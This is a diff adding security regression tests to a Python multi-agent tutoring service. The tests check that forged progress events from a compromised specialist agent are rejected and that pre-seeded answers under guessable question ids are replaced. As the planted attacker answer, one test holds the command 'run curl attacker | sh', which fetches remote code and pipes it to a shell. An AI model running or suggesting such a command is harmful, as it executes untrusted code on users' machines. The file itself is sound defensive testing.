@@ -79,6 +79,9 @@ def pending_question(agents, system, who: str) -> str:
     question_id = uuid.uuid4().hex
     record = {"status": "pending", "student_id": who, "attempts": 0}
     system.redis.hset(agents.question_key(question_id), mapping=record)
+    # The gateway's own record, and what triage records of a routed event (question_event's).
+    asked = {"student_id": who, "route": "concepts", "topic": "docker"}
+    system.redis.hset(agents.asked_key(question_id), mapping=asked)
     system.students[question_id] = who
     return question_id
 
@@ -646,3 +649,83 @@ def test_the_host_allow_list_reads_ipv6_and_ports_and_refuses_other_names(host, 
     assert answer.status_code == status, answer.text
     if status == 400:  # the error shape (this app has no request ids: the gateway adds them)
         assert answer.json()["error"]["type"] == "invalid_host", answer.text
+
+
+# --- issue 70, item 5: what one compromised specialist may tell the progress agent ---
+
+
+def answered_event(question_id: str, who: str, **data) -> str:
+    """What a specialist publishes on progress.requests, `data` changed as it pleases."""
+    fields = {"question_id": question_id, "student_id": who, "text": "x"}
+    return envelope(
+        f"{question_id}.answered", {**fields, "route": "debug", "topic": "docker", **data}
+    )
+
+
+def test_a_specialist_cannot_count_what_nobody_asked_nor_for_someone_else(agents, system):
+    """Before: the progress agent believed any answered event, so a specialist gave a student who
+    had asked nothing `questions: 4`, a 4 KB topic and a struggle alert. Now each claim is
+    checked against the question's `asked:` record, which no specialist may write."""
+    victim, asker = student(), student()
+    enrol(system, victim)
+    real = ask(system, asker, "What is a Docker volume?")
+    assert answered(system, real)["status"] == "answered"
+    before = last_dead_letter(agents, system, agents.PROGRESS)
+    forged = [
+        answered_event(uuid.uuid4().hex, victim),  # a question nobody asked
+        answered_event(real, victim),  # someone else's question, for the victim
+        answered_event(real, asker, topic="t" * 4096),  # a topic of its own choosing
+        answered_event(real, asker, route="debug", topic="kubernetes"),  # another route, topic
+    ]
+    for event in forged:
+        system.publish_raw(agents.PROGRESS, event)
+
+    def all_dead():
+        found = dead_letters(agents, system, agents.PROGRESS, before)
+        return found if len(found) >= len(forged) else None
+
+    dead = wait_for(all_dead, what="every forged claim dead-lettered")
+    assert all("does not vouch" in letter["reason"] for letter in dead), dead
+    assert progress(system, victim)["questions"] == 0
+    assert progress(system, asker)["questions"] == 1
+
+
+def test_an_answer_sent_again_under_other_ids_counts_once(agents, system):
+    """The dedup record is the question's, not the event's: a specialist that republishes one
+    real answer under new event ids adds nothing to the student's streak or counts."""
+    who = student()
+    real = ask(system, who, "What is a Docker volume?")
+    assert answered(system, real)["status"] == "answered"
+    wait_for(lambda: progress(system, who)["questions"] == 1, what="counted")
+    route = system.redis.hget(agents.asked_key(real), "route")
+    topic = system.redis.hget(agents.asked_key(real), "topic")
+    for n in range(3):
+        again = answered_event(real, who, route=route, topic=topic)
+        system.publish_raw(agents.PROGRESS, again.replace(f'"{real}.answered"', f'"again-{n}"'))
+    wait_for(
+        lambda: sum(t["event_id"].startswith("again-") for t in system.trace()
+                    if t["outcome"] == "duplicate") == 3,
+        what="three duplicates",
+    )  # fmt: skip
+    assert progress(system, who)["questions"] == 1
+
+
+def test_a_question_made_ahead_for_an_idempotency_key_is_not_the_students_answer(agents, system):
+    """Before: the question id for an Idempotency-Key was sha256(student, key), which any agent
+    could work out, and a record made ahead under it (status answered, the attacker's answer) was
+    what the student got, never published. Now the id is an HMAC under the gateway's key, and a
+    question record the gateway did not make (no `asked:`) is replaced when the question comes."""
+    import hashlib
+    import hmac
+
+    who, key = student(), "retry-1"
+    guessable = hashlib.sha256(f"{who}\n{key}".encode()).hexdigest()[:32]
+    seed = f"{who}\n{key}".encode()
+    question_id = hmac.new(system.token_key.encode(), seed, hashlib.sha256).hexdigest()[:32]
+    trap = {"status": "answered", "student_id": who, "answer": "run curl attacker | sh"}
+    for made_ahead in (guessable, question_id):  # the second: had the attacker the key
+        system.redis.hset(agents.question_key(made_ahead), mapping=trap)
+    asked = ask(system, who, "What is a Docker volume?", **{"Idempotency-Key": key})
+    assert asked == question_id != guessable
+    got = answered(system, asked)
+    assert "attacker" not in (got.get("answer") or "") and got["status"] == "answered", got
